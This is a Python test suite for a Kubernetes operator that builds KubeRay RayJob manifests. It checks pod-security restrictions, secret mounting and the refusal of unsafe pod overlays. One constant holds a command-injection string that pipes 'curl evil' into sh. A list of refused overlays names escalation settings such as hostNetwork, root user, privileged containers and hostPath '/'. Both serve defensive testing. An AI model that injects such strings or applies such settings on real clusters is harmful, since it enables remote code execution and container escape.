"""The RayJob of an attempt: golden manifests, what holds for every one of them, and which overlays are refused."""

from __future__ import annotations

import json
import re
import shlex
from pathlib import Path
from typing import Any

import pytest
from tests.support.kuberay_cases import FOLDER, KUBERAY_FULL, PINNED

from gradatim.api.build import (
    RunIdentity,
    Surroundings,
    dataset_run_config,
    index_run_config,
    store_config,
    vector_store_config,
)
from gradatim.api.computeprofile import ComputeProfileSpec
from gradatim.api.dataset import DatasetSpec
from gradatim.api.kuberay import overlay_problem
from gradatim.api.ragindex import RAGIndexSpec
from gradatim.api.run import RunConfig, RunObject, attempt_name
from gradatim.operator.errors import WillNeverWork
from gradatim.operator.naming import RUN_LENGTH, run_name
from gradatim.operator.runtimes.base import Launch
from gradatim.operator.runtimes.kuberay_mounts import secret_names
from gradatim.operator.runtimes.kuberay_objects import MAX_NAME, rayjob

GOLDEN = Path(__file__).parent / "golden"
Body = dict[str, Any]
S3 = {"root": "s3://store/{namespace}/", "endpoint": "http://s3:9000", "workloadSecretName": "artifacts"}
VECTORS = {"endpoint": "http://weaviate:8080", "grpcEndpoint": "http://weaviate:50051", "workloadSecretName": "vectors"}
HOSTILE = "x'; curl evil|sh #$(id)`id`"


def profile(store: Body | None = None, **pods: Any) -> ComputeProfileSpec:
    """Return a profile with pods; members of `kubeRay` are given by their wire names."""
    block = {"image": PINNED, "rayVersion": "2.60.0"} | pods
    return ComputeProfileSpec.model_validate(
        {"runtime": {"type": "kuberay", "kubeRay": block}, "artifactStore": store or S3, "vectorStore": VECTORS}
    )


def around(spec: ComputeProfileSpec) -> Surroundings:
    """Return what the profile gives to a Run of the namespace `team`."""
    return Surroundings(
        store=store_config(spec, "team"),
        vector_store=vector_store_config(spec),
        limits=spec.limits,
        secrets_path=spec.runtime.secrets_path,
    )


def dataset_config(spec: ComputeProfileSpec, **members: Any) -> RunConfig:
    """Return the frozen config of a Dataset."""
    source = {"git": {"url": "https://git.local/a.git", "secretRef": {"name": "git-read"}}}
    wanted = DatasetSpec.model_validate({"source": source} | members)
    owner = RunObject(kind="Dataset", namespace="team", name="papers", uid="uid-1", generation=3)
    return dataset_run_config(RunIdentity(owner, "papers-0123456789", 2), wanted, around(spec))


def index_config(spec: ComputeProfileSpec) -> RunConfig:
    """Return the frozen config of an index with four workers."""
    wanted = {
        "sources": [
            {"name": "wiki", "source": {"persistentVolumeClaim": {"claimName": "wiki", "subPath": HOSTILE}}},
            {"name": "web", "source": {"http": {"urls": ["https://web.local/a"], "secretRef": {"name": "web"}}}},
        ],
        "embedding": {"model": {"uri": "package://encoder"}},
        "evaluation": {"questions": {"s3": {"uri": "s3://questions/", "secretRef": {"name": "questions"}}}},
        "compute": {"workers": 4, "priority": "high"},
    }
    owner = RunObject(kind="RAGIndex", namespace="team", name="handbook", uid="uid-2", generation=1)
    identity = RunIdentity(owner, "handbook-0123456789", 1)
    return index_run_config(identity, RAGIndexSpec.model_validate(wanted), around(spec))


def rendered(spec: ComputeProfileSpec, config: RunConfig) -> Body:
    """Return the RayJob of a config."""
    work = config.dataset or config.index
    assert work is not None
    return rayjob(
        Launch(
            name=attempt_name(config.run, config.attempt),
            namespace="team",
            config_json="",
            config_digest=config.digest,
            uid=config.object.uid,
            workers=work.compute.workers,
        ),
        config,
        spec,
    )


SMALL = profile()
LARGE = profile(
    {"root": FOLDER},
    queueName="team-a",
    serviceAccountName="runs",
    priorityClassName="batch",
    imagePullSecrets=["registry"],
    artifactVolume={"claimName": "artifacts", "shared": True},
    ttlSecondsAfterFinished=60,
    preRunningDeadlineSeconds=120,
    head={"resources": {"cpu": "500m", "memory": "2Gi"}},
    worker={
        "resources": {"cpu": "4", "memory": "16Gi"},
        "accelerators": {"count": 1},
        "nodeSelector": {"pool": "gpu"},
        "tolerations": [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}],
        "podTemplate": {
            "metadata": {"labels": {"cost-centre": "42"}, "annotations": {"example.com/scrape": "no"}},
            "spec": {
                "terminationGracePeriodSeconds": 60,
                "securityContext": {"supplementalGroups": [44]},
                "containers": [
                    {"name": "logs", "image": "logs:1"},
                    {
                        "name": "ray",
                        "env": [{"name": "HF_HUB_OFFLINE", "value": "1"}],
                        "resources": {"limits": {"cpu": "8"}},
                    },
                ],
                "initContainers": [{"name": "warm", "image": "warm:1"}],
                "volumes": [{"name": "tmp", "emptyDir": {"sizeLimit": "20Gi"}}],
            },
        },
    },
)
JOBS = {"dataset-on-one-pod": (SMALL, dataset_config(SMALL)), "index-on-gpu-workers": (LARGE, index_config(LARGE))}


@pytest.mark.parametrize("name", JOBS)
def test_the_rayjob_is_as_it_always_was(name: str) -> None:
    found = rendered(*JOBS[name])
    file = GOLDEN / f"{name}.json"
    config = JOBS[name][1]
    assert json.loads(json.dumps(found).replace(config.digest, "sha256:digest")) == json.loads(file.read_text())


def test_pods_are_asked_every_second_whether_they_are_ready_unless_the_overlay_says_otherwise() -> None:
    def probes(spec: ComputeProfileSpec) -> list[Body]:
        return [pod["containers"][0]["readinessProbe"] for pod in pods(rendered(spec, index_config(spec)))]

    assert [(p["httpGet"]["path"], p["periodSeconds"]) for p in probes(SMALL)] == [("/api/healthz", 1)] * 2
    own = {"exec": {"command": ["true"]}}
    overlay = {"spec": {"containers": [{"name": "ray", "readinessProbe": own}]}}
    assert probes(profile(worker={"podTemplate": overlay}))[1] == own


def pods(job: Body) -> list[Body]:
    """Return the pod specs of a RayJob."""
    cluster = job["spec"]["rayClusterSpec"]
    groups = [cluster["headGroupSpec"], *cluster["workerGroupSpecs"]]
    return [g["template"]["spec"] for g in groups]


def restricted(spec: Body) -> list[str]:
    """Return what the Pod Security Standard `restricted` has against a pod."""
    wrong = [n for n in ("hostNetwork", "hostPID", "hostIPC") if spec.get(n)]
    wrong += [
        v["name"]
        for v in spec["volumes"]
        if not v.keys() & {"configMap", "emptyDir", "secret", "persistentVolumeClaim"}
    ]
    if not spec["securityContext"]["runAsNonRoot"] or spec["securityContext"]["runAsUser"] == 0:
        wrong.append("root")
    for container in (*spec["containers"], *spec.get("initContainers", [])):
        context = container["securityContext"]
        if context["allowPrivilegeEscalation"] or context["capabilities"] != {"drop": ["ALL"]}:
            wrong.append(container["name"])
        if context["seccompProfile"] != {"type": "RuntimeDefault"} or not context["readOnlyRootFilesystem"]:
            wrong.append(container["name"])
    return wrong


@pytest.mark.parametrize("name", JOBS)
def test_every_container_is_restricted_and_none_has_the_clusters_token(name: str) -> None:
    found = pods(rendered(*JOBS[name]))
    assert [restricted(spec) for spec in found] == [[]] * len(found)
    assert {spec["automountServiceAccountToken"] for spec in found} == {False}


def test_one_worker_needs_one_pod_of_the_workers_shape() -> None:
    shape = profile(worker={"resources": {"cpu": "3", "memory": "5Gi"}, "accelerators": {"count": 2}})
    cluster = rendered(shape, dataset_config(shape))["spec"]["rayClusterSpec"]
    assert cluster["workerGroupSpecs"] == []
    container = cluster["headGroupSpec"]["template"]["spec"]["containers"][0]
    assert container["resources"]["limits"] == {"cpu": "3", "memory": "5Gi", "nvidia.com/gpu": "2"}


def test_no_text_of_a_user_reaches_a_command_line() -> None:
    job = rendered(LARGE, index_config(LARGE))
    words = shlex.split(job["spec"]["entrypoint"])
    assert words[:4] == ["python", "-m", "gradatim.workloads", "index"]
    assert words[4:8] == ["--config", "/etc/gradatim/run/config.json", "--attempt", "1"]
    assert re.fullmatch(r"[a-zA-Z0-9 ./:=_-]+", job["spec"]["entrypoint"])
    assert HOSTILE not in json.dumps(job)
    assert "runtimeEnvYAML" not in job["spec"]


def test_secrets_are_mounted_where_the_driver_runs_and_nowhere_else() -> None:
    config = index_config(LARGE)
    assert secret_names(config) == ["questions", "vectors", "web"]
    head, worker = pods(rendered(LARGE, config))
    assert sorted(v["secret"]["secretName"] for v in head["volumes"] if "secret" in v) == secret_names(config)
    assert [v for v in worker["volumes"] if "secret" in v] == []
    assert "secretKeyRef" not in json.dumps([head, worker])


def test_the_secrets_of_models_are_mounted_beside_the_driver_too() -> None:
    config = index_config(LARGE)
    assert config.index is not None
    models = {
        "embedding": {"model": {"uri": "s3://models/encoder", "secretRef": {"name": "encoder"}}},
        "retrieval": {"rerank": {"model": {"uri": "s3://models/reranker", "secretRef": {"name": "reranker"}}}},
    }
    spec = RAGIndexSpec.model_validate(config.index.model_dump(by_alias=True, exclude_none=True) | models)
    config = config.model_copy(update={"index": spec})
    assert secret_names(config) == ["encoder", "questions", "reranker", "vectors", "web"]
    head, worker = pods(rendered(LARGE, config))
    assert sorted(v["secret"]["secretName"] for v in head["volumes"] if "secret" in v) == secret_names(config)
    assert [v for v in worker["volumes"] if "secret" in v] == []


def test_a_pod_sees_its_own_namespace_of_a_shared_store_only() -> None:
    head, _ = pods(rendered(LARGE, index_config(LARGE)))
    mount = next(m for m in head["containers"][0]["volumeMounts"] if m["name"] == "artifacts")
    assert mount == {"name": "artifacts", "mountPath": "/store/team", "subPath": "team"}
    own = profile({"root": FOLDER + "runs/"}, artifactVolume={"claimName": "artifacts"})
    mount = next(
        m
        for m in pods(rendered(own, dataset_config(own)))[0]["containers"][0]["volumeMounts"]
        if m["name"] == "artifacts"
    )
    assert mount == {"name": "artifacts", "mountPath": "/store/team"}


def test_the_queue_is_named_on_the_rayjob_alone_and_suspend_is_set_once() -> None:
    config = index_config(LARGE)
    job = rendered(LARGE, config)
    assert job["metadata"]["labels"]["kueue.x-k8s.io/queue-name"] == "team-a"
    assert job["metadata"]["labels"]["kueue.x-k8s.io/priority-class"] == "high"
    assert "kueue" not in json.dumps(job["spec"])
    assert job["spec"]["suspend"] is True
    free = rendered(SMALL, dataset_config(SMALL, compute={"priority": "high"}))
    assert "suspend" not in free["spec"]
    assert "kueue" not in json.dumps(free)


def test_the_longest_name_of_an_attempt_is_one_that_kuberay_takes() -> None:
    run = run_name("a" * 253, "uid", "trigger")
    assert len(run) <= RUN_LENGTH
    assert len(attempt_name(run, 10_000)) <= MAX_NAME
    assert re.fullmatch(r"[a-z]([-a-z0-9]*[a-z0-9])?", attempt_name(run_name("9.Ä-x", "uid", "t"), 1))


def test_a_longer_name_is_refused_before_it_is_created() -> None:
    config = dataset_config(SMALL).model_copy(update={"run": "r" * 46})
    with pytest.raises(WillNeverWork, match="cannot execute as a RayJob"):
        rendered(SMALL, config)


def test_overlays_that_the_schema_admits_are_rendered() -> None:
    block = {k: v for k, v in KUBERAY_FULL["kubeRay"].items() if k != "artifactVolume"}
    full = profile(**block)
    assert [restricted(spec) for spec in pods(rendered(full, dataset_config(full)))] == [[]]


def container(**members: Any) -> Body:
    """Return an overlay with members in the container ray."""
    return {"spec": {"containers": [{"name": "ray"} | members]}}


def selinux(**options: Any) -> Body:
    """Return an overlay with SELinux options of the pod."""
    return {"spec": {"securityContext": {"seLinuxOptions": options}}}


REFUSED: list[tuple[str, Body, str]] = [
    ("something else than a pod", {"kind": "Pod"}, "kind is neither metadata nor spec"),
    ("a name of the pod", {"metadata": {"name": "x"}}, "metadata.name must not be set"),
    ("a label of Kueue's", {"metadata": {"labels": {"kueue.x-k8s.io/queue-name": "q"}}}, "belongs to the platform"),
    ("an owner label", {"metadata": {"labels": {"gradatim.dev/owner": "q"}}}, "belongs to the platform"),
    ("a label of Ray's", {"metadata": {"annotations": {"ray.io/ft-enabled": "true"}}}, "belongs to the platform"),
    ("a label that is no text", {"metadata": {"labels": {"a": 1}}}, "metadata.labels is not an object of texts"),
    ("metadata that is a list", {"metadata": []}, "metadata is not an object"),
    ("a spec that is a text", {"spec": "x"}, "spec is not an object"),
    ("the host's network", {"spec": {"hostNetwork": True}}, "spec.hostNetwork must not be set"),
    ("the host's processes", {"spec": {"hostPID": True}}, "spec.hostPID must not be set"),
    (
        "a mounted token",
        {"spec": {"automountServiceAccountToken": True}},
        "automountServiceAccountToken must not be set",
    ),
    ("another service account", {"spec": {"serviceAccountName": "admin"}}, "kubeRay.serviceAccountName"),
    ("a node's name", {"spec": {"nodeName": "n"}}, "spec.nodeName must not be set"),
    (
        "the root user",
        {"spec": {"securityContext": {"runAsUser": 0}}},
        "spec.securityContext.runAsUser must not be set",
    ),
    (
        "another AppArmor profile",
        {"metadata": {"annotations": {"container.apparmor.security.beta.kubernetes.io/ray": "unconfined"}}},
        "metadata.annotations: container.apparmor.security.beta.kubernetes.io/ray must not be set",
    ),
    ("an SELinux type of no container", selinux(type="spc_t"), "seLinuxOptions.type must be one of container_engine_t"),
    ("an empty SELinux type", selinux(type=""), "seLinuxOptions.type must be one of"),
    ("an SELinux user", selinux(user="system_u"), "seLinuxOptions.user must not be set; level and type may"),
    ("an SELinux role", selinux(role="sysadm_r"), "seLinuxOptions.role must not be set"),
    ("an SELinux level that is no text", selinux(level=0), "seLinuxOptions is not an object of texts"),
    (
        "SELinux options that are a text",
        {"spec": {"securityContext": {"seLinuxOptions": "spc_t"}}},
        "seLinuxOptions is not an object of texts",
    ),
    ("a security context that is a text", {"spec": {"securityContext": "x"}}, "spec.securityContext must not be set"),
    ("a folder of the host", {"spec": {"volumes": [{"name": "v", "hostPath": {"path": "/"}}]}}, "v is a hostPath"),
    ("a volume without a name", {"spec": {"volumes": [{"emptyDir": {}}]}}, "spec.volumes is not a list"),
    ("two containers of one name", {"spec": {"containers": [{"name": "a"}, {"name": "a"}]}}, "different names"),
    ("a command", container(command=["sh"]), "ray: command must not be set"),
    ("another image", container(image="evil"), "ray: image must not be set"),
    ("privileges", container(securityContext={"privileged": True}), "securityContext must not be set"),
    ("another token", container(env=[{"name": "RAY_AUTH_TOKEN", "value": "x"}]), "env must not set RAY_AUTH"),
    (
        "privileges of a sidecar",
        {"spec": {"initContainers": [{"name": "s", "securityContext": {}}]}},
        "spec.initContainers: s: securityContext must not be set",
    ),
    ("too much text", {"spec": {"x": "y" * 40_000}}, "larger than 32768 bytes"),
]


@pytest.mark.parametrize(("overlay", "message"), [r[1:] for r in REFUSED], ids=[r[0] for r in REFUSED])
def test_an_overlay_that_would_weaken_the_pods_is_refused_by_name(overlay: Body, message: str) -> None:
    assert message in (overlay_problem(overlay) or "")
    with pytest.raises(ValueError, match="podTemplate"):
        profile(worker={"podTemplate": overlay})


TAKEN: list[tuple[str, Body]] = [
    ("the one of the golden manifests", LARGE.runtime.kube_ray.worker.pod_template),  # type: ignore[union-attr]
    ("an SELinux level", selinux(level="s0:c123,c456")),
    ("an SELinux type of containers", selinux(type="container_t")),
    ("an SELinux type of virtual machines", selinux(type="container_kvm_t", level="s0")),
    ("an annotation of somebody's", {"metadata": {"annotations": {"example.com/apparmor": "x"}}}),
]


@pytest.mark.parametrize("overlay", [r[1] for r in TAKEN], ids=[r[0] for r in TAKEN])
def test_a_harmless_overlay_is_taken(overlay: Body) -> None:
    assert overlay_problem(overlay) is None
